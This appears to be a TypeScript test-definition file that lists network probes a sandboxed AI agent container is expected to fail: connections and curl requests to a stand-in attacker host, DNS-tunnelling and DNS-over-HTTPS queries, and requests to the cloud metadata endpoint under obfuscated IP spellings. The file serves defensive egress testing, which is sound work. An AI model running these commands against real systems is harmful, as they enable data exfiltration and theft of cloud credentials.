import { spare } from "../../world/places";
import type { Row } from "../row";
import { asks, blocked, https, tcp, udp } from "./ways";

const network = { layer: "container-network" } as const;
const agent = (id: string, run: string, more: Partial<Row> = {}) =>
    blocked(`${id}-agent`, "agent", run, { ...network, ...more });

const tcpPorts = [21, 22, 25, 123, 853, 1080, 3128, 4444, 8080, 8443, 9001] as const;
const udpPorts = [123, 443, 853, 4444, 51820] as const;
const resolvers = ["8.8.8.8", "1.1.1.1", "9.9.9.9"] as const;

const metadata = "http://169.254.169.254/latest";
const spellings = ["169.254.169.254", "2852039166", "0xA9FEA9FE", "0251.0376.0251.0376"] as const;
const asksToken = "curl -sS -f -m 2 -o /dev/null -X PUT -H 'x-aws-ec2-metadata-token-ttl-seconds: 60'";

/** From root in the container straight out: there is no route, no resolver, and no neighbour but the relay. */
const outward: readonly Row[] = [
    ...tcpPorts.map((port) => agent(`tcp-${port}`, tcp("$ATTACKER", port))),
    ...udpPorts.map((port) => agent(`udp-${port}`, udp("$ATTACKER", port))),
    agent("https", 'curl -k -sS -f -m 3 -o /dev/null "https://$ATTACKER/$NONCE"'),
    agent("http", 'curl -sS -f -m 3 -o /dev/null "http://$ATTACKER/$NONCE"'),
    agent("llm-directly", https("https://api.anthropic.com", "--connect-to", "::$LLM:443")),
    agent("evil-twin", https("https://evil.attacker.test", "--connect-to", "::$LLM:443")),
    agent("mirror-directly", https("https://mirror.attacker.test", "--connect-to", "::$MIRROR:443")),
    agent("tunnel-own-resolver", asks("$NONCE.attacker.test", "")),
    agent("tunnel-vpc-resolver", asks("$NONCE.attacker.test", "@169.254.169.253"), { source: "O36" }),
    agent("tunnel-vpc-resolver-tcp", asks("$NONCE.attacker.test", "@10.0.0.2", "+tcp"), { source: "O36" }),
    ...resolvers.flatMap((resolver) => [
        agent(`dns-${resolver}`, asks("$NONCE.attacker.test", `@${resolver}`), { source: "O36" }),
        agent(`doh-${resolver}`, https(`https://${resolver}/dns-query`)),
    ]),
];

const inside: readonly Row[] = [
    agent("host-spare", tcp("$AGENT", spare), { layer: "host-firewall", source: "O53" }),
    agent("host-spare-udp", udp("$AGENT", spare), { layer: "host-firewall", source: "O53" }),
    agent("edge-spare", tcp("$EDGE", spare), { source: "O53" }),
    agent("verifier-spare", tcp("$VERIFIER", spare), { source: "O53" }),
    agent("edge-package-gateway", "curl -sS -m 3 -o /dev/null http://$EDGE:4080/ubuntu/dists/noble/InRelease"),
    agent("edge-site", "curl -k -sS -m 3 -o /dev/null --connect-to ::$EDGE:443 https://agent.example.com/"),
    ...spellings.map((spelling, i) =>
        agent(`imds-v1-${i}`, `curl -sS -f -m 2 -o /dev/null http://${spelling}/latest/meta-data/`, { source: "O50" }),
    ),
    agent("imds-v2", `${asksToken} ${metadata}/api/token`, { source: "O50" }),
];

/** Straight from the container: the internet, the hosts, the metadata. */
export const agentRows: readonly Row[] = [...outward, ...inside];
